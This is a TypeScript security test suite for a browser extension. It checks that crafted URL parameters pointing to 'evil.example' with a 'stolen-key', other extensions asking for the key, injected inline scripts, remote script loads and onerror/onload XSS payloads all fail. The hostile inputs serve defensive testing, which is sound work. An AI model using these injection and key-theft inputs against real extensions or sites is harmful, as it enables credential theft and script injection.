import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startTrap } from '../site/trap.ts';
import type { TestBrowser, TestPage } from './browsers/browser.ts';
import type { ChromiumBrowser } from './browsers/chromium.ts';
import type { ChromiumPage } from './browsers/chromium-page.ts';
import type { FirefoxBrowser } from './browsers/firefox.ts';
import { BUILDS, companionIn, launch } from './companion.ts';
import { API } from './content-world.ts';
import { GECKO_ID } from './extension-life.ts';
import { expect, test } from './fixture.ts';
import { problemTried } from './oracle.ts';
import { openKnown } from './panel-view.ts';
import { startPlainServer } from './plain-server.ts';
import { openPopupWithResults } from './popup-view.ts';

const EVIL = 'https://evil.example';
const STOLEN = 'stolen-key';

/** Hosts to which no key may be sent, even if all checks of the extension failed. */
const PLAIN = ['evil.example', 'localhost.evil.example', '127.0.0.1.evil.example', '0.0.0.0', '192.168.1.5'];

test("the extension's pages are closed to sites and other extensions", {
  tag: '@firefox',
}, async ({ site, player, realBrowser }) => {
  const trap = await startTrap();
  const plain = await startPlainServer();
  const other = await otherExtension();
  const hosts = {
    'remote.example': trap.port,
    ...Object.fromEntries(PLAIN.map((host) => [host, plain.port])),
  };
  const browser = await launch(realBrowser, { sitePort: site.port, hosts, besides: [other] });
  try {
    const companion = await companionIn(browser, site);
    const { options } = companion;
    await companion.connect(player.name);
    const id = problemTried(site, player.id, { least: 3, most: 9, solved: true });
    const page = await openKnown(companion, site, player, id);
    const popup = await openPopupWithResults(companion);
    await popup.close();

    await test.step("S32 the extension's own pages violate no policy", async () => {
      const logged = (await browser.settledConsoleText()).filter((line) => OF_POLICY.test(line));
      expect(logged).toEqual([]);
    });

    await test.step('S31 parameters in the address of an extension page change nothing', async () => {
      const before = site.log.mark();
      const crafted = await browser.newPage();
      for (const file of ['options.html', 'welcome.html', 'popup.html', 'history-page.html']) {
        await crafted.goto(
          `${browser.extensionOrigin}/${file}?base=${EVIL}&key=${STOLEN}&site=${EVIL}#base=${EVIL}&key=${STOLEN}`,
        );
        await crafted.waitFor('document.querySelector(".OptionsPage, .WelcomePage, .Popup, .HistoryPage")');
        const shown = await crafted.evaluate<string>(
          'document.documentElement.outerHTML + [...document.querySelectorAll("input")].map(({ value }) => value)',
        );
        expect(shown).not.toContain('evil');
        expect(shown).not.toContain('stolen');
      }
      await crafted.close();
      await options.reload();
      await options.waitFor('document.querySelector(".AccountCard")');
      expect(site.log.since(before).filter(({ headers }) => headers['x-api-key'] === STOLEN)).toEqual([]);
    });

    await test.step('S30 no packaged file can be read or framed by a page', async () => {
      const files = await packagedFiles(realBrowser);
      expect(files.length).toBeGreaterThan(10);
      const reached = await page.evaluate(probe(files.map((file) => `${browser.extensionOrigin}/${file}`)));
      expect(reached).toEqual([]);
      const framed = await framesOf(browser, page);
      expect(framed.filter((address) => address.includes('extension://'))).toEqual([]);
    });

    await test.step('S21 another extension gets no answer', async () => {
      const otherPage = await browser.waitForPage('/ask.html');
      const ourId = realBrowser === 'firefox' ? GECKO_ID : new URL(browser.extensionOrigin).host;
      expect(await otherPage.evaluate(approach(ourId))).toEqual(['nobody', 'nobody', 'disconnected']);
      await options.reload();
      await options.waitFor('document.querySelector(".AccountCard")');
    });

    await test.step('S4 plain HTTP to another machine is refused by the browser itself', async () => {
      const ways = PLAIN.map((host) => `http://${host}/api/v2/user/me`);
      expect(await options.evaluate(fetchAll(ways))).toEqual(ways.map(() => 'refused'));
      expect(await inBackground(browser, options, fetchAll(ways))).toEqual(ways.map(() => 'refused'));
      expect(plain.requests).toEqual([]);
    });

    await test.step('S32 pages and worker run no code from text or other sites', async () => {
      for (const file of ['options.html', 'welcome.html', 'popup.html', 'history-page.html']) {
        const own = await browser.newPage();
        await own.goto(`${browser.extensionOrigin}/${file}`);
        const { done, violated } = await own.evaluate<{ done: string[]; violated: string[] }>(INJECT);
        expect(done, file).toEqual([]);
        expect(violated.toSorted(), file).toEqual(DIRECTIVES.toSorted());
        expect(await own.url()).toBe(`${browser.extensionOrigin}/${file}`);
        await own.close();
      }
      expect(await inBackground(browser, options, CODE_IN_WORKER)).toEqual([]);
      expect(trap.log.all()).toEqual([]);
    });
  } finally {
    await browser.close();
    await Promise.all([trap.close(), plain.close(), rm(other, { recursive: true })]);
  }
});

const OF_POLICY = /content.security.policy|securitypolicyviolation|violates the following/i;

/** Returns a folder with a small extension, which opens a page of its own when it is installed. */
async function otherExtension(): Promise<string> {
  const folder = await mkdtemp(join(tmpdir(), 'other-extension-'));
  const manifest = {
    manifest_version: 3,
    name: 'Another extension',
    version: '1',
    background: { service_worker: 'open.js', scripts: ['open.js'] },
    browser_specific_settings: { gecko: { id: 'another@example.org' } },
  };
  await writeFile(join(folder, 'manifest.json'), JSON.stringify(manifest));
  await writeFile(
    join(folder, 'open.js'),
    `${API}.runtime.onInstalled.addListener(() => ${API}.tabs.create({ url: 'ask.html', active: false }));`,
  );
  await writeFile(join(folder, 'ask.html'), '<!doctype html><title>Asks</title>');
  return folder;
}

const approach = (id: string) => `(async () => {
  const { runtime } = ${API};
  const ask = (message) => runtime.sendMessage('${id}', message).then(
    (reply) => reply === undefined ? 'nobody' : JSON.stringify(reply),
    () => 'nobody',
  );
  const port = runtime.connect('${id}');
  const left = new Promise((resolve) => {
    port.onMessage.addListener((message) => resolve(JSON.stringify(message)));
    port.onDisconnect.addListener(() => resolve('disconnected'));
  });
  return [await ask({ ask: 'forgetKey', with: null }), await ask({ ask: 'getKey', with: null }), await left];
})()`;

async function packagedFiles(name: TestBrowser['name']): Promise<string[]> {
  const entries = await readdir(BUILDS[name], { recursive: true, withFileTypes: true });
  return entries
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name).slice(BUILDS[name].length + 1));
}

/** Returns every file that a page of the site can load in any way. Frames are checked from outside. */
const probe = (addresses: string[]) => `(async () => {
  const load = (name, field, address, more) => new Promise((resolve) => {
    const element = Object.assign(document.createElement(name), more, { [field]: address });
    element.onload = () => resolve(true);
    element.onerror = () => resolve(false);
    document.head.append(element);
  });
  const reached = [];
  for (const address of ${JSON.stringify(addresses)}) {
    const ways = await Promise.all([
      fetch(address).then(() => true, () => false),
      fetch(address, { mode: 'no-cors' }).then(() => true, () => false),
      load('img', 'src', address),
      load('link', 'href', address, { rel: 'stylesheet' }),
      load('script', 'src', address),
    ]);
    if (ways.includes(true)) reached.push([address, ways]);
    if (!address.endsWith('.html')) continue;
    const frame = Object.assign(document.createElement('iframe'), { src: address });
    document.body.append(frame);
    // A frame that the browser refuses may fire no event at all. It is then judged by its state after this time.
    await Promise.race([
      new Promise((resolve) => { frame.onload = resolve; frame.onerror = resolve; }),
      new Promise((resolve) => setTimeout(resolve, 3_000)),
    ]);
  }
  return reached;
})()`;

/** Addresses of a page's frames, as the browser reports them. */
async function framesOf(browser: TestBrowser, page: TestPage): Promise<string[]> {
  if (browser.name === 'chromium') {
    return (page as ChromiumPage).page.frames().map((frame) => frame.url());
  }
  return (browser as FirefoxBrowser).evaluateInBrowser<string[]>(
    `[...gBrowser.tabs].flatMap(({ linkedBrowser }) =>
      linkedBrowser.browsingContext.children.map((frame) => frame.currentWindowGlobal?.documentURI.spec ?? ''))`,
  );
}

/** Evaluates in the service worker, or in Firefox's event page. */
function inBackground<T>(browser: TestBrowser, options: TestPage, expression: string): Promise<T> {
  if (browser.name === 'chromium') return (browser as ChromiumBrowser).evaluateInWorker<T>(expression);
  return options.evaluate<T>(`(async () => {
    const globalThis = await browser.runtime.getBackgroundPage();
    const { fetch, document, Function, setTimeout } = globalThis;
    return ${expression};
  })()`);
}

const fetchAll = (addresses: string[]) => `Promise.all(${JSON.stringify(addresses)}.map((address) =>
  fetch(address, { mode: 'no-cors' }).then(() => 'sent', () => 'refused')))`;

/** Attempts to run code from text or from another site, and returns the ways that worked. */
const CODE_IN_WORKER = `(async () => {
  const done = [];
  const attempt = async (name, act) => { try { await act(); done.push(name); } catch {} };
  await attempt('eval', () => globalThis.eval('1'));
  await attempt('Function', () => new Function('return 1')());
  if (globalThis.importScripts) await attempt('importScripts', () => importScripts('https://remote.example/x.js'));
  else await attempt('script', () => new Promise((resolve, reject) => {
    const script = Object.assign(document.createElement('script'), { src: 'https://remote.example/x.js' });
    script.onload = resolve;
    script.onerror = reject;
    document.head.append(script);
  }));
  return done;
})()`;

const DIRECTIVES = [
  'script-src',
  'script-src-elem',
  'script-src-attr',
  'style-src-elem',
  'img-src',
  'connect-src',
  'base-uri',
  'form-action',
  'frame-src',
  'font-src',
];

/**
 * ms after which a missing report counts as none; far longer than reports take on a busy machine. The wait ends early when all
 * reports have arrived.
 */
const UNHEARD = 100_000;

/** Attempts everything that the policy of an extension page forbids. Returns what worked and which directives were reported. */
const INJECT = `(async () => {
  const done = [], violated = new Set();
  const allHeard = new Promise((resolve) => {
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      violated.add(effectiveDirective);
      if (${JSON.stringify(DIRECTIVES)}.every((each) => violated.has(each))) resolve();
    });
    setTimeout(resolve, ${UNHEARD});
  });
  globalThis.ran = (what) => done.push(what);
  const attempt = async (name, act) => { try { await act(); done.push(name); } catch {} };
  await attempt('eval', () => globalThis.eval('ran("eval")'));
  await attempt('Function', () => new Function('ran("Function")')());
  const put = (name, more) => {
    const element = Object.assign(document.createElement(name), more);
    document.body.append(element);
    return element;
  };
  const load = (name, more) => new Promise((resolve) => {
    const element = put(name, more);
    element.onload = () => resolve(done.push(name + ' loaded'));
    element.onerror = resolve;
  });
  put('script', { textContent: 'ran("inline")' });
  await load('script', { src: 'https://remote.example/x.js' });
  await load('img', { src: 'https://remote.example/x.png' });
  await load('link', { rel: 'stylesheet', href: 'https://remote.example/x.css' });
  const styled = (name) => getComputedStyle(document.documentElement).getPropertyValue(name) !== '';
  if (!styled('--page')) done.push('without its own styles');
  put('style', { textContent: ':root { --injected: 1 }' });
  if (styled('--injected')) done.push('inline style');
  put('div', { innerHTML: '<img src="data:image/png;base64,x" onerror="ran(1)"><svg onload="ran(2)"></svg>' });
  await attempt('plain', () => fetch('http://remote.example/'));
  await attempt('https', () => fetch('https://remote.example/', { mode: 'no-cors' }));
  await attempt('the site', () => fetch('https://www.goproblems.com/', { mode: 'no-cors' }));
  await attempt('font', () => new FontFace('x', 'url(https://remote.example/x.woff)').load());
  const before = document.baseURI;
  put('base', { href: 'https://remote.example/' });
  if (document.baseURI !== before) done.push('base');
  // Firefox throws, Chromium does nothing.
  try { put('form', { action: 'https://remote.example/', method: 'post' }).submit(); } catch {}
  put('iframe', { src: 'https://remote.example/' });
  // Another process decides about some of these, at any later time.
  await allHeard;
  return { done, violated: [...violated] };
})()`;
